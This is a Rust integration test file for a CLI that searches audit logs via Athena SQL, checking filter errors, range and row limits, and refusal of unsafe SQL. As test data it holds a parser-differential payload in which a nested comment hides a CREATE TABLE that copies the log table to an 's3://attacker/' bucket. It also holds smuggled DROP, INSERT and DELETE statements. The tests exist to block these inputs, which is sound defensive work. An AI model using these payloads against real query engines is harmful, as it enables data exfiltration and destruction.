//! `sagewatch trail` end to end, the checks made before anything is sent: the real binary
//! on the demo organisation. A bad filter is pointed at (exit 2), `--print-sql` prints the
//! partition-pruned, limited SELECT, and raw SQL that may scan the whole trail needs --yes.

use std::process::{Command, Output, Stdio};

const BIN: &str = env!("CARGO_BIN_EXE_sagewatch");

fn run(args: &[&str]) -> Output {
    run_with(&[], args)
}

/// `sagewatch --demo ... GLOBAL trail ARGS`.
fn run_with(global: &[&str], args: &[&str]) -> Output {
    let home = std::env::temp_dir().join(format!("sagewatch-cli-trail-{}", std::process::id()));
    std::fs::create_dir_all(&home).unwrap();
    Command::new(BIN)
        .args(["--demo", "--demo-start", "2026-11-26T10:00:00Z"])
        .args(global)
        .arg("trail")
        .args(args)
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("HOME", &home)
        .env("XDG_STATE_HOME", home.join("state"))
        .env("XDG_CONFIG_HOME", home.join("config"))
        .stdin(Stdio::null())
        .output()
        .expect("run sagewatch")
}

fn code(o: &Output) -> i32 {
    o.status.code().unwrap_or(-1)
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

#[test]
fn a_bad_filter_exits_2_with_a_caret_under_the_token() {
    let out = run(&["event:UpdateEndpoint since:soon"]);
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    let err = stderr(&out);
    let lines: Vec<&str> = err.lines().collect();
    assert!(
        lines[0].contains("since: expected a duration like 2h"),
        "{err}"
    );
    assert_eq!(lines[1], "  event:UpdateEndpoint since:soon");
    assert_eq!(lines[2], format!("  {}^^^^", " ".repeat(27)), "{err}");
    assert!(stdout(&out).is_empty());
}

#[test]
fn print_sql_prints_the_pruned_limited_select_without_running_it() {
    let out = run(&[
        "event:UpdateEndpoint account:prod since:3d",
        "--print-sql",
        "--max-rows",
        "25",
    ]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let sql = stdout(&out);
    assert_eq!(sql.lines().count(), 1, "{sql}");
    assert!(sql.starts_with("SELECT "), "{sql}");
    // The demo's clock: three days back to 2026-11-26, as partitions and as times.
    assert!(
        sql.contains("\"timestamp\" BETWEEN '2026/11/23' AND '2026/11/26'"),
        "{sql}"
    );
    assert!(sql.contains("eventname IN ('UpdateEndpoint')"), "{sql}");
    // The label became the account's id.
    assert!(
        sql.contains("recipientaccountid IN ('111111111111')"),
        "{sql}"
    );
    assert!(
        sql.trim_end().ends_with("ORDER BY eventtime DESC LIMIT 25"),
        "{sql}"
    );
    // Nothing ran: no progress, no parameters.
    assert!(stderr(&out).is_empty(), "{}", stderr(&out));
}

#[test]
fn an_unknown_account_label_exits_2_naming_the_known_ones() {
    let out = run(&["account:nope", "--print-sql"]);
    assert_eq!(code(&out), 2);
    let err = stderr(&out);
    assert!(err.contains("unknown account nope"), "{err}");
    assert!(err.contains("prod (111111111111)"), "{err}");
    assert!(stdout(&out).is_empty());
}

#[test]
fn sql_and_a_filter_together_are_refused() {
    let out = run(&["event:X", "--sql", "SELECT 1"]);
    assert_eq!(code(&out), 2);
    assert!(stderr(&out).contains("--sql"), "{}", stderr(&out));
    assert!(stdout(&out).is_empty());
}

#[test]
fn unpruned_sql_needs_yes() {
    let sql = "SELECT useridentity.arn, useridentity.sessioncontext.sourceidentity, \
               requestparameters FROM observability_replicated_logs WHERE eventname = \
               'CreateEndpoint' AND eventsource = 'sagemaker.amazonaws.com'";
    let out = run(&["--sql", sql]);
    assert_eq!(code(&out), 2);
    let err = stderr(&out);
    assert!(err.contains("may scan the whole trail"), "{err}");
    assert!(err.contains("add --yes to run it anyway"), "{err}");
    assert!(stdout(&out).is_empty());
    // It may still be printed: nothing is sent.
    let out = run(&["--sql", sql, "--print-sql"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(stdout(&out).trim_end(), sql);
}

#[test]
fn more_than_one_statement_is_refused() {
    let out = run(&["--sql", "SELECT 1; DROP TABLE x", "--yes"]);
    assert_eq!(code(&out), 2);
    assert!(
        stderr(&out).contains("one statement at a time"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn max_rows_is_bounded() {
    for n in ["0", "100001"] {
        let out = run(&["since:1h", "--max-rows", n]);
        assert_eq!(code(&out), 2, "{n}");
        assert!(stderr(&out).contains("--max-rows"), "{}", stderr(&out));
        assert!(stdout(&out).is_empty());
    }
}

#[test]
fn a_write_hidden_by_a_comment_is_refused_before_anything_is_sent() {
    // sqlparser's generic dialect nests comments and read only the SELECT; Athena's engine
    // ends the first comment at its first `*/` and would run the CTAS.
    let hidden = "/* /* */ CREATE TABLE evil WITH (external_location='s3://attacker/x/') AS \
                  SELECT * FROM cloudtrail_logs -- */ SELECT eventname FROM cloudtrail_logs \
                  WHERE \"timestamp\" = '2026/11/29'";
    for global in [&[][..], &["--readonly"]] {
        let out = run_with(global, &["--sql", hidden, "--yes"]);
        assert_eq!(code(&out), 2, "{}", stderr(&out));
        assert!(
            stderr(&out).contains("remove the comments"),
            "{}",
            stderr(&out)
        );
        assert!(stdout(&out).is_empty(), "nothing ran: {}", stdout(&out));
    }
    let out = run(&[
        "--sql",
        "WITH a AS (SELECT 1) INSERT INTO x SELECT * FROM a",
        "--yes",
    ]);
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    assert!(stderr(&out).contains("holds INSERT"), "{}", stderr(&out));
}

#[test]
fn sql_that_reads_the_whole_trail_under_another_name_needs_yes_and_table_functions_never_run() {
    // A CTE out of scope, a column list renaming the partition: the table is read whole.
    for sql in [
        "SELECT eventname FROM cloudtrail_logs WHERE eventid IN (WITH cloudtrail_logs AS \
         (SELECT 'x' AS eventid) SELECT eventid FROM cloudtrail_logs)",
        "WITH cloudtrail_logs AS (SELECT * FROM cloudtrail_logs) SELECT eventname FROM \
         cloudtrail_logs",
        "SELECT * FROM cloudtrail_logs AS t(a, \"timestamp\") WHERE t.\"timestamp\" = \
         '2026/01/01'",
    ] {
        let out = run(&["--sql", sql]);
        assert_eq!(code(&out), 2, "{sql}: {}", stderr(&out));
        assert!(
            stderr(&out).contains("may scan the whole trail"),
            "{sql}: {}",
            stderr(&out)
        );
        assert!(stdout(&out).is_empty(), "nothing ran: {}", stdout(&out));
    }
    // A table function hands its text to a source that may write: refused even with --yes.
    let sql = "SELECT * FROM TABLE(system.query(query => 'DELETE FROM customers'))";
    for global in [&[][..], &["--readonly"]] {
        let out = run_with(global, &["--sql", sql, "--yes"]);
        assert_eq!(code(&out), 2, "{}", stderr(&out));
        assert!(
            stderr(&out).contains("remove the table function"),
            "{}",
            stderr(&out)
        );
        assert!(stdout(&out).is_empty(), "nothing ran: {}", stdout(&out));
    }
}

#[test]
fn a_range_wider_than_max_range_days_needs_yes_however_it_is_written() {
    // The demo's clock is 2026-11-26T10:00:00Z; the bound is 31 days unless configured.
    let cases = [
        (
            vec!["since:2000-01-01T00:00:00Z"],
            "the search covers 9827 days (2000-01-01T00:00:00Z to 2026-11-26T10:00:00Z)",
        ),
        (vec!["since:40d"], "the search covers 40 days"),
        (
            vec!["since:2026-01-01T00:00:00Z until:2026-03-01T00:00:00Z"],
            "the search covers 59 days",
        ),
        (
            vec![
                "--sql",
                "SELECT eventname FROM cloudtrail_logs WHERE \"timestamp\" BETWEEN '2000/01/01' AND '2026/11/26'",
            ],
            "from 2000/01/01 to 2026/11/26 (9826 days)",
        ),
    ];
    for (args, says) in cases {
        let out = run(&args);
        assert_eq!(code(&out), 2, "{args:?}: {}", stderr(&out));
        let err = stderr(&out);
        assert!(err.contains(says), "{args:?}: {err}");
        assert!(err.contains("more than max_range_days = 31"), "{err}");
        assert!(
            err.contains("add --yes to run it anyway (nothing was sent)"),
            "{err}"
        );
        assert!(stdout(&out).is_empty(), "{}", stdout(&out));
        // Printing it sends nothing, so it needs no --yes.
        let mut print = args.clone();
        print.push("--print-sql");
        let out = run(&print);
        assert_eq!(code(&out), 0, "{args:?}: {}", stderr(&out));
    }
    // Up to the bound it runs; with --yes, wider too, the warning said first.
    let out = run(&["since:31d", "--max-rows", "1"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let out = run(&["since:40d", "--yes", "--max-rows", "1"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert!(
        stderr(&out).contains("warning: the search covers 40 days"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn the_bound_is_the_configs_max_range_days() {
    let dir = std::env::temp_dir().join(format!("sagewatch-cli-range-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let config = dir.join("config.toml");
    std::fs::write(&config, "[trail]\nmax_range_days = 60\n").unwrap();
    let config = config.to_string_lossy().into_owned();
    let out = run_with(&["--config", &config], &["since:40d", "--max-rows", "1"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let out = run_with(&["--config", &config], &["since:61d"]);
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    assert!(
        stderr(&out).contains("more than max_range_days = 60"),
        "{}",
        stderr(&out)
    );
    // A bad bound is pointed at in the file.
    std::fs::write(&config, "[trail]\nmax_range_days = 0\n").unwrap();
    let out = run_with(&["--config", &config], &["since:1h"]);
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    assert!(
        stderr(&out).contains(&format!("{config}:2:18")),
        "{}",
        stderr(&out)
    );
}
